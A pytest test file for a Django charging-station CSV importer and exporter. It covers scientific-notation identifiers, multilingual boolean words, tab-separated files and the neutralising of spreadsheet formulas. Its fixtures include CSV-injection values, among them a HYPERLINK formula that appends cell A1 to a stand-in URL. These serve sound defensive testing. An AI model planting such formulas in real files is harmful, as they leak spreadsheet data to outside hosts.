"""What spreadsheets do to CSV files (SPEC §3): scientific notation in identifier columns, boolean words
in their users' languages, tab-separated files, and formulas that a wrong separator would start."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from stations import csv_export, csv_format, csv_import
from stations.csv_export import export_lines
from stations.csv_format import BOOLEAN_WORDS, HEADERS, neutralise_cell, parse_bool, restore_cell
from stations.models import ConnectorSpec, Station
from tests import factories
from tests.csv_helpers import csv_bytes, row

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])


def snapshot():
    return (
        list(Station.objects.order_by("pk").values()),
        list(ConnectorSpec.objects.order_by("pk").values()),
    )


# -- Scientific notation --------------------------------------------------------------------------


@pytest.mark.parametrize("header", ["Station ID", "Security code", "Article number", "Serial number"])
@pytest.mark.parametrize("value", ["1.23457E+19", "7.00E+10", "1,23E+19", "1.2e19", "-4.5E-03", "1E+10"])
def test_scientific_notation_in_an_identifier_column_is_a_spreadsheet_number(tenant, header, value):
    before = snapshot()
    cells = {header.replace(" ", "_"): value}
    plan = csv_import.parse(csv_bytes(row(**cells)), tenant=tenant)
    [error] = plan.errors
    assert (error.row, error.column, error.code, error.value) == (2, header, "spreadsheet_number", value)
    assert f"“{value}” is a number in scientific notation" in error.message
    assert "Format the column as Text" in error.message
    assert "Excel template" in error.message
    assert snapshot() == before


@pytest.mark.parametrize("value", ["7E10", "E10", "ACE-1E+5", "1.23457E+19X", "12345", "1.5"])
def test_identifiers_that_only_look_numeric_are_kept(value):
    assert csv_format.parse_identifier(value) == value


def test_scientific_notation_in_a_name_column_is_a_name(tenant):
    # Manufacturer is a name, not an identifier a spreadsheet takes for a number.
    plan = csv_import.parse(csv_bytes(row(Manufacturer="1.2E+19")), tenant=tenant)
    assert plan.errors == []


def test_the_upload_page_shows_the_spreadsheet_number_advice(operator_client):
    data = csv_bytes(row(Serial_number="1.23456789012346E+19"))
    response = operator_client.post("/stations/upload/", {"file": SimpleUploadedFile("s.csv", data)})
    assert response.status_code == 422
    assert [e.code for e in response.context["result"].errors] == ["spreadsheet_number"]
    assert "a spreadsheet program took the value for a number" in response.content.decode()
    assert not Station.objects.exists()


# -- Boolean words ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("true", "false"),
    [
        ("WAAR", "ONWAAR"),
        ("WAHR", "FALSCH"),
        ("VRAI", "FAUX"),
        ("VERDADERO", "FALSO"),
        ("VERO", "FALSO"),
        ("VERDADEIRO", "FALSO"),
        ("SAND", "FALSK"),
        ("SANT", "FALSKT"),
        ("PRAWDA", "FAŁSZ"),
    ],
)
def test_spreadsheet_boolean_words_in_any_case(true, false):
    for spelling in (true, true.lower(), true.title()):
        assert parse_bool(spelling) is True
    for spelling in (false, false.lower(), false.title()):
        assert parse_bool(spelling) is False
    assert (true, false) in BOOLEAN_WORDS


def test_no_word_means_both():
    trues = {true.lower() for true, _ in BOOLEAN_WORDS}
    falses = {false.lower() for _, false in BOOLEAN_WORDS}
    assert not trues & falses


def test_a_german_csv_imports(tenant):
    plan = csv_import.parse(csv_bytes(row(Wi_Fi_supported="WAHR", GSM_supported="falsch")), tenant=tenant)
    assert plan.errors == []
    assert (plan.stations[0].station["wifi_supported"], plan.stations[0].station["gsm_supported"]) == (
        True,
        False,
    )


def test_a_boolean_word_is_still_checked():
    with pytest.raises(ValidationError) as caught:
        parse_bool("JA")
    assert caught.value.code == "invalid_boolean"


# -- Tab-separated ----------------------------------------------------------------------------------


def test_a_tab_separated_file_says_so(tenant):
    text = "\r\n".join("\t".join(cells) for cells in (HEADERS, row()))
    plan = csv_import.parse(text.encode(), tenant=tenant)
    [error] = plan.errors
    assert (error.row, error.code) == (1, "tab_separated")
    assert "separated by tabs" in error.message
    assert "semicolons" in error.message


# -- No formula through a wrong separator -----------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param('Alfen,=HYPERLINK("http://x")', 'Alfen,\'=HYPERLINK("http://x")', id="after-comma"),
        pytest.param("A;+1", "A;'+1", id="after-semicolon"),
        pytest.param("A\t-1", "A\t'-1", id="after-tab"),
        pytest.param("A\t\t=1", "A\t'\t'=1", id="tab-is-a-separator-and-a-trigger"),
        pytest.param('A,"=1"', 'A,\'"=1"', id="quote-before-the-formula"),
        pytest.param("A,'=1", "A,''=1", id="already-escaped-looking"),
        pytest.param("A, =1", "A, =1", id="space-between"),
        pytest.param("ST-1,2", "ST-1,2", id="no-trigger"),
    ],
)
def test_a_formula_after_a_separator_inside_a_cell_is_neutralised(value, written):
    assert neutralise_cell(value) == written
    assert restore_cell(written) == value


def _fields(text: str, separator: str) -> list[str]:
    return [field for line in csv.reader(io.StringIO(text), delimiter=separator) for field in line]


def _formula_fields(text: str, separator: str) -> list[str]:
    return [field for field in _fields(text, separator) if field[:1] in FORMULA_START]


@pytest.fixture
def hostile_station(other_tenant):
    return factories.make_station(
        other_tenant,
        station_id="SV-9",
        manufacturer='Alfen,=HYPERLINK("http://x/?"&A1;"fix")',
        article_number="A;-1",
        serial_number='B,"+1"',
    )


@SEPARATORS
def test_the_export_starts_no_formula_under_any_separator(hostile_station, separator):
    text = "".join(export_lines(Station.objects.all(), bom=False))
    assert "HYPERLINK" in text
    assert _formula_fields(text, separator) == []


def test_the_neutralised_export_imports_back_unchanged(client, hostile_station, other_operator):
    client.force_login(other_operator)
    data = b"".join(client.get(reverse("admin:stations_station_export")).streaming_content)
    before = snapshot()
    response = client.post("/stations/upload/", {"file": SimpleUploadedFile("export.csv", data)})
    result = response.context["result"]
    assert result.errors == []
    assert (result.stations_created, result.stations_overridden) == (0, 1)
    assert snapshot()[0][0]["manufacturer"] == before[0][0]["manufacturer"]
    assert Station.objects.get().article_number == "A;-1"
    assert Station.objects.get().serial_number == 'B,"+1"'


@SEPARATORS
def test_the_error_list_starts_no_formula_under_any_separator(operator_client, separator):
    data = csv_bytes(row(Manufacturer='Alfen,=HYPERLINK("http://x")', Voltage="x;=1", Amperage="1\t+2"))
    response = operator_client.post("/stations/upload/", {"file": SimpleUploadedFile("s.csv", data)})
    record = response.context["result"].record
    assert record.error_count >= 2
    text = operator_client.get(reverse("stations:upload_errors", kwargs={"pk": record.pk})).content.decode(
        "utf-8-sig"
    )
    assert "=1" in text
    assert _formula_fields(text, separator) == []


@SEPARATORS
@pytest.mark.parametrize("kind", list(csv_export.EXAMPLES))
def test_the_examples_start_no_formula_under_any_separator(kind, separator):
    assert _formula_fields(csv_export.example_csv(kind), separator) == []
